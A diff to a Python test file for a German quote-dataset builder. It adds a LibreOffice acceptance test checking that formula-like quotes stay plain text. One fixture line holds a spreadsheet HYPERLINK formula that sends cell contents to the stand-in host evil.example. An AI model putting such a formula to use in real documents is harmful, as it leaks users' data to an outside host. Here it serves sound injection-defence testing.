@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import csv
 import json
+import re
 import shutil
 import sqlite3
 import subprocess
@@ -20,7 +21,8 @@ SEED = (
     "„Wir öffnen sie am 3. Mai, und zwar »pünktlich«.“\n"
     "Sie betonte, die Kosten seien gedeckt. Die Straße heißt None, sagte Pohlmann.\n"
 )
-TABLES = ("quotes", "entities")
+TABLES = ("quotes", "entities", "mentions")
+README = (Path(__file__).parents[1] / "README.md").read_text(encoding="utf-8")
 
 
 @pytest.fixture(scope="module")
@@ -125,22 +127,52 @@ def test_sqlite(package: Path, tmp_path: Path) -> None:
         assert by_key == sorted(expected(package, name), key=str)
 
 
-@pytest.mark.acceptance
-@pytest.mark.parametrize("name", TABLES)
-def test_libreoffice_calc(package: Path, tmp_path: Path, name: str) -> None:
+# 44 comma, 34 double quote, 76 UTF-8, 1 first line, columns 1-14 as text: README's line.
+INFILTER = re.search(r"--infilter=(CSV:[0-9,/]+)", README).group(1)  # type: ignore[union-attr]
+
+
+def calc_sheet(csv_file: Path, tmp_path: Path) -> Any:
+    """CSV_FILE converted by LibreOffice Calc headless with README's options, as a sheet."""
     from openpyxl import load_workbook
 
     soffice = shutil.which("soffice")
     assert soffice, "LibreOffice is needed: apt-get install libreoffice-calc-nogui (.ci/run does)"
-    # 44 comma, 34 double quote, 76 UTF-8, 1 first line: the options README gives.
     result = subprocess.run(
         [soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
-         "--convert-to", "xlsx", "--infilter=CSV:44,34,76,1", "--outdir", str(tmp_path),
-         str(package / f"{name}.csv")],
+         "--convert-to", "xlsx", f"--infilter={INFILTER}", "--outdir", str(tmp_path),
+         str(csv_file)],
         capture_output=True, text=True, timeout=120,
     )  # fmt: skip
     assert result.returncode == 0, result.stderr
-    sheet = load_workbook(tmp_path / f"{name}.xlsx").active
+    return load_workbook(tmp_path / f"{csv_file.stem}.xlsx").active
+
+
+@pytest.mark.acceptance
+def test_injected_formulas_stay_text_in_libreoffice(tmp_path: Path) -> None:
+    """Issue 11, case 2: README's spreadsheet line turns no quote into a formula."""
+    seeds = tmp_path / "seeds"
+    seeds.mkdir()
+    (seeds / "formel.txt").write_text(
+        '„=1+1*2 & " Euro kostet das Projekt"“, sagte Anna Berger.\n'
+        '„=HYPERLINK("http://evil.example/?x="&D2&E2,"Mehr Informationen")“, sagte Berger.\n'
+        "„@SUMME(A1:A9) bleibt ein Rätsel für uns alle“, sagte Jonas Brandt.\n",
+        encoding="utf-8",
+    )
+    out = tmp_path / "out"
+    assert build_dataset("--seeds", str(seeds), "--out", str(out)).returncode == 0
+    sheet = calc_sheet(out / "quotes.csv", tmp_path)
+    header = [cell.value for cell in next(sheet.iter_rows())]
+    texts = [row[header.index("text")] for row in sheet.iter_rows(min_row=2)]
+    expected_texts = [row["text"] for row in expected(out, "quotes")]
+    assert sorted(cell.value for cell in texts) == sorted(expected_texts)
+    assert any(cell.value.startswith("=HYPERLINK") for cell in texts)
+    assert all(cell.data_type == "s" for cell in texts), [c.data_type for c in texts]
+
+
+@pytest.mark.acceptance
+@pytest.mark.parametrize("name", TABLES)
+def test_libreoffice_calc(package: Path, tmp_path: Path, name: str) -> None:
+    sheet = calc_sheet(package / f"{name}.csv", tmp_path)
     assert sheet is not None
     header, *cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
     rows = [dict(zip(header, values, strict=True)) for values in cells]
